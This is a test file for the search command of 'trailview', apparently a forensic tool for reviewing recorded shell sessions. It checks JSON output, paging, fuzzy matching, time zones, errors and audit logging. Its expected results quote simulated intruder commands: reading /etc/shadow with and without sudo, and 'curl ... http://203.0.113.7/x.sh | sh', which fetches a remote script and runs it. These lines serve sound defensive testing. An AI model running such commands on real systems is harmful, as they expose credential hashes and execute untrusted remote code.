// `trailview search` as a user runs it (docs/cli.md "Search", docs/search.md): the JSON contract,
// text output with labelled time zones, paging, fuzzy mode, errors with a column, and the
// activity record every search leaves in the case.
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { openCase } from '../../electron/services/case/case.js';
import { resourcePath, SAMPLE_VKEY } from '../../electron/services/resources.js';
import { tempDir } from '../helpers/bundles.js';
import { demoBundle } from '../helpers/case-fixtures.js';
import { runCli } from '../helpers/cli.js';

let dir: string;
beforeAll(async () => {
  const demo = await demoBundle(21, 200_000);
  dir = path.join(await tempDir('tv-search-cli-'), 'case');
  expect((await runCli(['case', 'new', dir])).code).toBe(0);
  expect((await runCli(['case', 'import', dir, demo, '--trust', resourcePath(...SAMPLE_VKEY)])).code).toBe(0);
}, 120_000);

interface JsonHit {
  ts: string;
  session: string;
  user: string | null;
  host: string | null;
  kind: string;
  text: string;
  snippet: string;
  tsUs: number;
  highlights: Array<[number, number]>;
}

async function json(args: string[]): Promise<{ total: number; hits: JsonHit[]; totalExact: boolean; warnings: string[] }> {
  const r = await runCli(['search', dir, ...args, '--json']);
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout) as { total: number; hits: JsonHit[]; totalExact: boolean; warnings: string[] };
}

describe('trailview search', () => {
  it('prints the JSON contract: {"total","hits":[{"ts","session","user","host","kind","text","snippet",...}]}', async () => {
    const doc = await json(['/etc/shadow']);
    expect(Object.keys(doc).slice(0, 2)).toEqual(['total', 'hits']);
    expect(doc.total).toBe(4);
    const [first] = doc.hits;
    expect(Object.keys(first ?? {}).slice(0, 7)).toEqual(['ts', 'session', 'user', 'host', 'kind', 'text', 'snippet']);
    expect(first).toMatchObject({ ts: '2024-12-11T03:03:19.114772Z', session: 'web-1-pts-3-mallory-1', user: 'mallory', host: 'web-1', kind: 'command', text: 'cat /etc/shadow' });
    expect(doc.hits.map((h) => h.kind)).toEqual(['command', 'screen', 'command', 'screen']);
    for (const h of doc.hits) {
      expect(h.ts).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
      expect(h.text.slice(...(h.highlights[0] as [number, number])).toLowerCase()).toBe('/etc/shadow');
    }
  });

  it('filters, pages and orders from the command line', async () => {
    const all = await json(['user:mallory in:commands', '--limit', '1000']);
    expect(all.total).toBe(all.hits.length);
    expect(all.hits.every((h) => h.user === 'mallory')).toBe(true);
    const page2 = await json(['user:mallory in:commands', '--limit', '5', '--offset', '5']);
    expect(page2.hits.map((h) => h.tsUs)).toEqual(all.hits.slice(5, 10).map((h) => h.tsUs));
    const newest = await json(['user:mallory in:commands', '--order', 'newest', '--limit', '1']);
    expect(newest.hits[0]?.tsUs).toBe(all.hits[all.hits.length - 1]?.tsUs);
    const night = await json(['in:commands after:2024-12-11T04:00+01:00 before:2024-12-11T04:05+01:00']);
    expect(night.hits.map((h) => h.text)).toEqual(['id', 'w', 'sudo -l', 'cat /etc/shadow', 'sudo cat /etc/shadow']);
    const bare = await json(['in:commands after:2024-12-11T04:00 before:2024-12-11T04:05', '--timezone', 'Europe/Berlin']);
    expect(bare.hits).toEqual(night.hits);
  });

  it('finds typos and obfuscation with --fuzzy, closest first', async () => {
    const doc = await json(['crl x.sh', '--fuzzy']);
    expect(doc.hits[0]?.text).toBe('curl -fsSL http://203.0.113.7/x.sh | sh');
  });

  it('prints text for humans with times in the chosen zone, always labelled', async () => {
    const utc = await runCli(['search', dir, 'sudo cat /etc/shadow in:commands']);
    expect(utc.code).toBe(0);
    expect(utc.stdout).toBe(
      '1 match for sudo cat /etc/shadow in:commands, showing 1–1 (times in UTC)\n' +
        '2024-12-11 03:03:23.576819 +00:00  cmd     web-1-pts-3-mallory-1  mallory@web-1  sudo cat /etc/shadow\n',
    );
    const berlin = await runCli(['search', dir, 'sudo cat /etc/shadow in:commands', '--timezone', 'Europe/Berlin']);
    expect(berlin.stdout).toMatch(/\(times in Europe\/Berlin\)\n2024-12-11 04:03:23\.576819 \+01:00 {2}cmd/);
    const more = await runCli(['search', dir, 'in:commands', '--limit', '2']);
    expect(more.stdout).toMatch(/^72 matches for in:commands, showing 1–2 \(times in UTC\)\n.*\n.*\n\(more: --offset 2\)\n$/);
  });

  it('reports query mistakes with the column and a caret, exit 2', async () => {
    const r = await runCli(['search', dir, 'user:alice (kubectl OR sudo']);
    expect(r.code).toBe(2);
    expect(r.stderr).toBe('trailview: unbalanced parenthesis at column 12\n  user:alice (kubectl OR sudo\n             ^\n');
    expect((await runCli(['search', dir, 'x', '--order', 'random'])).stderr).toMatch(/--order must be time, newest or relevance/);
    expect((await runCli(['search', dir, 'x', '--timezone', 'Mars/Olympus'])).stderr).toMatch(/--timezone: unknown time zone "Mars\/Olympus"/);
    expect((await runCli(['search', dir, 'x', '--limit', '0'])).code).toBe(2);
    expect((await runCli(['search', path.join(dir, 'nope'), 'x'])).code).toBe(2);
  });

  it('records every search in the activity log', async () => {
    await runCli(['search', dir, 'backup2 host:db-1', '--limit', '3']);
    const handle = await openCase(dir, { readOnly: true });
    try {
      const last = (await handle.activity()).at(-1);
      expect(last?.action).toBe('search.run');
      expect(last?.details).toMatchObject({ query: 'backup2 host:db-1', fuzzy: false, order: 'time', timezone: 'UTC', limit: 3, offset: 0, totalExact: true });
      expect((last?.details as { total: number }).total).toBeGreaterThan(0);
    } finally {
      await handle.close();
    }
  });

  it('refuses a case another Trailview holds open (the search could not be recorded)', async () => {
    const held = await openCase(dir);
    try {
      const r = await runCli(['search', dir, 'kubectl']);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/^trailview: .*the case is open elsewhere.*; every search is recorded in the case's activity log/);
    } finally {
      await held.close();
    }
  });
});
